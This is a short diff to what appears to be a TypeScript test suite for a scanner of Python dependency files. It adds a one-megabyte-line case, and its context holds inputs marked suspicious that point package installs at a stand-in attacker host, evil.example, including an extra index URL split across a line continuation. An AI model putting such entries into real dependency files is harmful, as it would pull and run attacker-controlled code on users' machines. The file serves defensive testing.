@@ -140,6 +140,7 @@ const packages: readonly ModelCase[] = [
     'numpy\n--extra-index-\\\nurl https://evil.example/simple\n',
     'requirements.txt',
   ),
+  notCleared('a list of packages in a line of a megabyte', 'a'.repeat(1_000_000), 'requirements.txt'),
   suspicious('a list of packages of another name', 'git+https://evil.example/tools\n', 'code/requirements-gpu.txt'),
   suspicious(
     'a list of packages in an environment of conda',
